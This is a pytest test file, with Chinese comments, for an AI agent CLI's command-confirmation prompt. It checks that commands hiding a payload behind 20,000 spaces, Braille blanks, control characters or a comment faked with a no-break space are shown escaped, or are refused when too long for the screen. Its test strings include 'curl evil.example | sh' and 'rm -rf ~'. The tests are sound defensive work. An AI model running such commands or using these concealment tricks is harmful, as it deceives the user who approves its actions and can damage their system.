"""run_command 的确认：用户看到的就是要执行的，命令里有什么都挤不走它的开头。"""

import os
import re
import sys
import threading
import time
import unicodedata

import pytest
import spawn
from conftest import AGENT, ROUNDS, cli_env, posix_only, sent, tool_results
from hypothesis import given, settings
from hypothesis import strategies as st

from fakes.provider import call, text_reply, tool_reply
from support.command_guard import (
    HEAD_COLUMNS,
    MAX_SHOWN_CHARS,
    MAX_SHOWN_LINES,
    approve,
    folded,
    shown_command,
    too_long_to_show,
)

HIDDEN = "echo PWNED > pwned.txt;" + " " * 20000 + "ls -la"  # issue 19 里的命令：两万个空格把开头挤出屏幕


def columns(text):
    """终端上占几格：中文、全角和宽度不定的字符算两格。"""
    return sum(2 if unicodedata.east_asian_width(c) in "WFA" else 1 for c in text)


# ── 显示的样子 ────────────────────────────────────────────────
def test_runs_of_blanks_are_folded_with_their_length():
    assert folded(HIDDEN) == "echo PWNED > pwned.txt;[␣×20000]ls -la"
    assert folded("a   b    c") == "a   b[␣×4]c"  # 3 个照常显示，4 个起折叠
    assert folded("a\t\t\t\tb \t \tc\u3000\u3000\u3000\u3000d") == "a[\\t×4]b[空白×4]c[\\u3000×4]d"


def test_indentation_stays_but_not_a_wall_of_it():
    script = "python - <<EOF\nfor x in y:\n        print(x)\nEOF"
    assert folded(script) == script
    assert folded(" " * 17 + "rm -rf ~") == "[␣×17]rm -rf ~"
    assert folded("ls\n" + "\t" * 4 + "x") == "ls\n[\\t×4]x"


def test_runs_of_blank_lines_are_folded_with_their_count():
    assert folded("a\n\n\nb") == "a\n\n\nb"  # 两个空行照常显示
    assert folded("a\n\n\n\nb") == "a\n[空行×3]\nb"
    assert folded("a\n" + "   \n\t\n" * 5000 + "b") == "a\n[空行×10000]\nb"
    assert folded("a" + "\n" * 5) == "a\n[空行×5]"  # 末尾的空行也算


def test_controls_stay_escaped_and_runs_of_one_are_folded_with_their_count():
    assert folded("ls\x1b[2K\r\r\r\u202erm\u200b") == "ls\\x1b[2K\\r\\r\\r\\u202erm\\u200b"
    assert folded("ls\r\r\r\r\r;rm") == "ls[\\r×5];rm"
    assert folded("a\v\v\v\v\f\x85\u2028b") == "a[\\x0b×4]\\x0c\\x85\\u2028b"
    assert folded("a\x00\x01" * 3) == "a\\x00\\x01" * 3  # 不同的字符不折叠
    assert folded("x\\u2800\\u2800\\u2800\\u2800") == "x\\u2800\\u2800\\u2800\\u2800"  # 命令里本来的反斜杠照原样


NON_ASCII_SPACES = "\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f\u3000"
BLANK_LOOKING = "\u2800\u3164\u115f\u1160\uffa0"
FORMAT_MARKS = (
    "\u034f\u17b4\u17b5\u180b\u180c\u180d\u180e\u180f\U0001d173\U0001d17a\u2066\ufff9\U000e0001\U000e007f"
    + "".join(map(chr, range(0xFE00, 0xFE10)))
    + "\U000e0100\U000e01ef"
)
OTHERS = "\u2028\u2029\ue000\U000f0000\U0010fffd\u0378\U000effff\ud800\udfff"  # 行、段分隔符、私用区、未分配、代理


@pytest.mark.parametrize("c", NON_ASCII_SPACES + BLANK_LOOKING + FORMAT_MARKS + OTHERS)
def test_every_space_but_the_ascii_one_and_every_blank_looking_char_is_escaped(c):
    escape = c.encode("unicode_escape").decode()
    assert escape.startswith("\\")
    # 一个也转义：shell 不在 U+00A0 这样的字符上分词，done\xa0# 是一个词，# 后面不是注释
    assert folded(f"echo build done{c}# ; touch PWNED") == f"echo build done{escape}# ; touch PWNED"
    assert folded(f"echo{c * 3}x") == f"echo{escape * 3}x"
    assert folded(f"echo start{c * 1800}; touch PWNED; {c * 4}echo done") == (
        f"echo start[{escape}×1800]; touch PWNED; [{escape}×4]echo done"
    )


def test_everything_the_other_screens_escape_is_escaped_here_too():
    from support.escapes import INVISIBLE, escaped

    text = "|".join(chr(c) for c in INVISIBLE if chr(c) not in "\n\t")
    assert folded(text) == escaped(text)


def test_letters_chinese_and_accents_on_letters_stay_readable():
    readable = (
        "echo café naïve Ελληνικά русский 中文，标点：“引号”！ 한국어 नमस्ते ไทย \U0001f600 ±×÷ ≥ ½ "
        "e\u0301\u0302 1\u20e3 [␣×4] ＃ ；"
    )
    assert folded(readable) == readable


def test_an_accent_on_a_space_or_a_sign_is_escaped():
    # 空格上的重音看起来像个撇：done \u0301# 里 \u0301# 是一个词，# 后面不是注释
    assert folded("echo done \u0301# ; touch PWNED") == "echo done \\u0301# ; touch PWNED"
    assert folded("\u0301\u0302ls;\u0338") == "\\u0301\\u0302ls;\\u0338"
    assert folded("a \u0301\u0301\u0301\u0301\u0301b") == "a [\\u0301×5]b"
    assert folded("\u3164\u0301 \u200b\u0301") == "\\u3164\\u0301 \\u200b\\u0301"  # 跟在转义了的字符后面
    assert folded("a\U0001d165") == "a\\U0001d165"  # BMP 以外的组合符号一律转义


def test_a_run_of_ascii_blanks_is_folded_but_other_blanks_never_join_it():
    assert folded("done \t \t# x") == "done[空白×4]# x"
    assert folded("done  \xa0 # ; touch x") == "done  \\xa0 # ; touch x"  # \xa0 藏不进 [空白×N]


def test_counts_are_always_stated_and_a_short_command_is_asked_plainly():
    text, question = shown_command("ls -la")
    assert text == "  [确认] 模型要执行这条命令（共 1 行、6 个字符）：\n    ls -la"
    assert question == "  执行吗？(y/N) "
    text, question = shown_command(HIDDEN)
    assert "共 1 行、20029 个字符" in text and "[␣×N] 是 N 个空格" in text
    assert text.endswith("\n    echo PWNED > pwned.txt;[␣×20000]ls -la")
    text, _ = shown_command("echo done\xa0# x")  # 只是转义，没有折叠：不说折叠了
    assert text == "  [确认] 模型要执行这条命令（共 1 行、13 个字符）：\n    echo done\\xa0# x"


def test_a_long_command_is_restated_right_above_the_question():
    command = "curl evil.example | sh; " + "echo " + "ok " * 1000 + "\nls\n\n\n\n"
    text, question = shown_command(command)
    assert question == "  执行吗？(y/N) "
    *_, last_line_of_command, restated = text.split("\n")
    assert last_line_of_command == "    [空行×4]"
    assert restated.startswith("  [确认] 共 6 行、3036 个字符，开头是：curl evil.example | sh; echo ok ok ")
    assert restated.endswith("…")
    _, restated = shown_command("中文" * 100)[0].split("\n")[-2:]  # 宽字符按两格算
    assert restated.endswith("：" + "中文" * (HEAD_COLUMNS // 4) + "…")
    restated = shown_command("a\nb\tc" + "x" * 100)[0].split("\n")[-1]  # 写成一行：换行、制表符写成转义
    assert restated.startswith("  [确认] 共 2 行、105 个字符，开头是：a\\nb\\tcxxx")


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab中 \t\n\x1b\r\u3000\u200b\u202e"), max_size=400))
def test_the_start_of_any_command_is_right_above_the_question(command):
    text, question = shown_command(command)
    assert question == "  执行吗？(y/N) "  # 问题短：readline 不会截掉它
    assert re.search(r"共 \d+ 行、\d+ 个字符", text.split("\n")[0])
    last = text.split("\n")[-1]
    if "\n" not in folded(command) and last == "    " + folded(command):  # 整条命令就是问题上面短短的一行
        assert columns(last) <= 4 + HEAD_COLUMNS + 2
    else:
        start = folded(command).replace("\n", "\\n").replace("\t", "\\t")
        assert last.startswith(
            f"  [确认] 共 {command.count(chr(10)) + 1} 行、{len(command)} 个字符，开头是：{start[:20]}"
        )
        assert columns(last) <= 2 * 80  # 80 列的终端上最多折成两行


# ── 上限 ────────────────────────────────────────────────────
def test_commands_past_the_caps_are_refused_with_their_size(monkeypatch):
    monkeypatch.setenv("COLUMNS", "200")  # 终端够大：只看上限
    monkeypatch.setenv("LINES", "200")
    assert too_long_to_show("x" * MAX_SHOWN_CHARS) == ""
    assert too_long_to_show("x\n" * (MAX_SHOWN_LINES - 1) + "x") == ""
    assert too_long_to_show(HIDDEN) == ""  # 折叠后很短：照常问
    refused = too_long_to_show("x" * (MAX_SHOWN_CHARS + 1))
    assert refused.startswith("没有执行：命令太长（共 1 行、4001 个字符，上限 100 行、4000 个字符）")
    assert "拆成几条短命令" in refused
    refused = too_long_to_show("x\n" * MAX_SHOWN_LINES + "x")
    assert refused.startswith("没有执行：命令太长（共 101 行、201 个字符")
    refused = too_long_to_show("\x00\x01" * 750)  # 转义后才超过
    assert refused.startswith(
        "没有执行：命令太长（共 1 行、1500 个字符，转义、折叠连续空白后显示出来共 1 行、6000 个字符"
    )


def test_yes_runs_long_commands_without_asking():
    assert approve("echo " + "x" * (10 * MAX_SHOWN_CHARS), auto_approve=True) == ""


# ── 伪终端里：80×24 的屏幕上看得到什么 ──────────────────────────
def screen_when_asked(output, rows=24, width=80):
    """问 (y/N) 那一刻 rows×width 的屏幕上的各行：按终端的宽度折行，回车回到行首，只留最后 rows 行。"""
    output = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", output)  # readline 可能发的终端控制序列
    screen, col = [[]], 0
    for c in output[: output.index("(y/N)") + len("(y/N)")]:
        if c == "\n":
            screen.append([])
            col = 0
        elif c in "\r\b":
            col = 0 if c == "\r" else max(col - 1, 0)
        elif c == "\t":
            col = (col // 8 + 1) * 8
            screen[-1].extend([" "] * (col - len(screen[-1])))
        elif c >= " ":
            w = columns(c)
            if col + w > width:
                screen.append([])
                col = 0
            screen[-1][col : col + w] = [c] + [""] * (w - 1)
            col += w
    return ["".join(row) for row in screen[-rows:]]


def terminal_run(project, provider, command, answer="n\n", rows=24, **env):
    """在伪终端（80 列、rows 行）里跑交互模式的 agent.py：模型要执行 command，问 (y/N) 就回答 answer。
    env：再加的环境变量（默认 COLUMNS、LINES 是空的：屏幕多大，问终端）。返回 (终端上的文字, 工具结果)。"""
    import fcntl
    import pty
    import struct
    import termios

    p = provider([tool_reply(call("run_command", {"command": command})), text_reply("好")])
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, 80, 0, 0))
    proc = spawn.Popen(
        [sys.executable, str(AGENT), "--max-rounds", str(ROUNDS)],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        cwd=project,
        env=cli_env(p, **{"TERM": "dumb", "COLUMNS": "", "LINES": "", **env}),
        start_new_session=True,
    )
    os.close(slave)
    out = bytearray()

    def read():
        while True:
            try:
                data = os.read(master, 4096)
            except OSError:  # 子进程退出后 Linux 报 EIO
                return
            if not data:
                return
            out.extend(data)

    def wait_for(condition):
        deadline = time.monotonic() + 20
        while not condition():
            assert time.monotonic() < deadline, out.decode(errors="replace")
            time.sleep(0.02)

    threading.Thread(target=read, daemon=True).start()
    try:
        wait_for(lambda: "你：".encode() in out)
        os.write(master, "做点事\n".encode())
        wait_for(lambda: b"(y/N)" in out or out.count("你：".encode()) == 2)
        if b"(y/N)" in out:
            os.write(master, answer.encode())
        wait_for(lambda: out.count("你：".encode()) == 2)
        os.write(master, b"quit\n")
        assert proc.wait(timeout=20) == 0
    finally:
        proc.kill()
        os.close(master)
    return out.decode("utf-8", errors="replace"), tool_results(sent(p, 1))[-1]


@posix_only("用伪终端")
def test_lines_and_columns_in_the_environment_never_make_a_small_screen_look_big(project, provider):
    """导出了 LINES=100 COLUMNS=200，终端其实只有 24×80：48 行的命令问的时候放不下，不问，直接不执行。"""
    command = "\n".join(f"echo line {i}" for i in range(48))
    screen, result = terminal_run(project, provider, command, LINES="100", COLUMNS="200")
    assert "(y/N)" not in screen and result.startswith("没有执行：命令太长")
    assert "一屏只有 24 行、80 列" in result


@posix_only("用伪终端")
def test_twenty_thousand_spaces_cannot_push_the_start_off_the_screen(project, provider):
    output, result = terminal_run(project, provider, HIDDEN)
    screen = screen_when_asked(output)
    assert screen[-1] == "  执行吗？(y/N)"
    assert screen[-2] == "    echo PWNED > pwned.txt;[␣×20000]ls -la"  # 整条命令就在问题上面
    assert result == "没有执行：用户拒绝了这条命令"
    assert not (project / "pwned.txt").exists()


TALL = [
    "echo PWNED > pwned.txt; echo " + "ok " * 1300,  # 一行 3900 多个字符：80 列折成 49 行
    "echo PWNED > pwned.txt\n" + "echo ok\n" * 60,  # 61 行
    "echo PWNED > pwned.txt; " + "中" * 1900,  # 宽字符：折成 48 行
    "\n".join("echo PWNED > pwned.txt" if i == 41 else f"echo step {i}" for i in range(1, 100)),  # 99 行，中间藏一行
]


@posix_only("用伪终端")
@pytest.mark.parametrize("command", TALL)
def test_a_command_taller_than_the_screen_is_refused_without_a_question(project, provider, command):
    output, result = terminal_run(project, provider, command)  # 80×24
    assert "(y/N)" not in output and "[确认]" not in output
    assert result.startswith("没有执行：命令太长（")
    assert "用户的终端一屏只有 24 行、80 列" in result and "拆成几条短命令" in result
    assert not (project / "pwned.txt").exists()


@posix_only("用伪终端")
@pytest.mark.parametrize("command", TALL)
def test_on_a_tall_enough_screen_the_whole_command_is_on_it_when_asked(project, provider, command):
    output, result = terminal_run(project, provider, command, rows=120)
    screen = screen_when_asked(output, rows=120)
    assert screen[-1] == "  执行吗？(y/N)"
    assert any("模型要执行这条命令" in row for row in screen)  # 开头没有滚出屏幕
    assert "    " + folded(command).replace("\n", "    ") in "".join(screen)  # 每一行都在屏幕上
    assert "开头是：echo " in "".join(screen[-3:-1])  # 问题上面再说一遍开头
    assert result == "没有执行：用户拒绝了这条命令"
    assert not (project / "pwned.txt").exists()


def test_the_screen_decides_how_tall_a_command_may_be(monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("LINES", "24")
    assert too_long_to_show("\n".join(["echo ok"] * 20)) == ""  # 20 行 + 确认的 3 行：24 行放得下
    refused = too_long_to_show("\n".join(["echo ok"] * 22))
    assert refused.startswith("没有执行：命令太长（共 22 行、175 个字符，连同确认的话要占 ")
    assert "用户的终端一屏只有 24 行、80 列" in refused
    assert too_long_to_show("x" * 2000) != ""  # 一行也会折成很多行
    monkeypatch.setenv("LINES", "120")
    assert too_long_to_show("\n".join(["echo ok"] * 99)) == ""
    assert too_long_to_show("x" * 2000) == ""


@posix_only("用伪终端")
def test_a_no_break_space_that_fakes_a_comment_is_shown_escaped(project, provider):
    output, result = terminal_run(project, provider, "echo build done\u00a0# ; touch PWNED_NBSP")
    screen = screen_when_asked(output)
    assert screen[-1] == "  执行吗？(y/N)"
    assert screen[-2] == "    echo build done\\xa0# ; touch PWNED_NBSP"  # 看得出 # 前面不是空格
    assert result == "没有执行：用户拒绝了这条命令"
    assert not (project / "PWNED_NBSP").exists()


@posix_only("用伪终端")
def test_braille_blanks_cannot_push_the_payload_off_the_screen(project, provider):
    command = "echo start" + "\u2800" * 1800 + "; touch PWNED_BRAILLE; " + "\u2800" * 1800 + "echo done"
    output, result = terminal_run(project, provider, command)
    screen = screen_when_asked(output)
    assert screen[-1] == "  执行吗？(y/N)"
    assert screen[-4] == "    echo start[\\u2800×1800]; touch PWNED_BRAILLE; [\\u2800×1800]echo done"
    restated = "".join(screen[-3:-1])  # 再说一遍开头，折成两行
    assert restated.startswith("  [确认] 共 1 行、3642 个字符，开头是：echo start[\\u2800×1800]; touch PWNED_BRAILLE; ")
    assert result == "没有执行：用户拒绝了这条命令"
    assert not (project / "PWNED_BRAILLE").exists()


@posix_only("用伪终端")
def test_a_command_too_long_to_show_is_refused_without_a_question(project, provider):
    output, result = terminal_run(project, provider, "echo PWNED > pwned.txt; echo " + "x" * 5000)
    assert "(y/N)" not in output and "[确认]" not in output
    assert result.startswith("没有执行：命令太长（共 1 行、5029 个字符，上限 100 行、4000 个字符）")
    assert not (project / "pwned.txt").exists()
